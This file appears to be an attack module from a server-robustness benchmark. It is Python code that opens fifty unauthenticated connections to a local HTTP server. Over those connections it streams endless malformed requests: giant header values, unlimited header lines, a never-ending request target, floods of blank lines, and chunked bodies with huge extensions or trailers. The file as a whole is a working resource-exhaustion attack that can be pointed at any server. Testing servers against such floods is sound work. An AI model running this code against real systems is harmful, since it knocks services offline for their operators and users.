"""Fifty connections without a token send headers, targets, trailers and empty lines that have no end."""

import asyncio
import contextlib
import itertools

from bench.attacks.target import Target

CONNECTIONS = 50
CHUNKED = b"POST /graphql HTTP/1.1\r\nhost: localhost\r\ntransfer-encoding: chunked\r\n\r\n"
ENDLESS = {
    b"GET /healthz HTTP/1.1\r\nhost: localhost\r\nx: ": b"a" * 65_536,
    b"GET /healthz HTTP/1.1\r\nhost: localhost\r\n": b"x: a\r\n" * 10_000,
    b"GET /": b"a" * 65_536,
    b"": b"\r\n" * 32_768,
    CHUNKED: b"1;" + b"a" * 65_536,
    CHUNKED + b"0\r\n": b"x: a\r\n" * 10_000,
}


async def send(port: int, head: bytes, piece: bytes) -> None:
    """Send `head`, and then `piece` until the server closes the connection."""
    with contextlib.suppress(OSError):
        _, writer = await asyncio.open_connection("127.0.0.1", port)
        try:
            writer.write(head)
            while True:
                writer.write(piece)
                await writer.drain()
        finally:
            writer.close()


async def attack(target: Target) -> None:
    kinds = itertools.cycle(ENDLESS.items())

    async def repeat(head: bytes, piece: bytes) -> None:
        while True:
            await send(target.port, head, piece)

    await asyncio.gather(*(repeat(*next(kinds)) for _ in range(CONNECTIONS)))
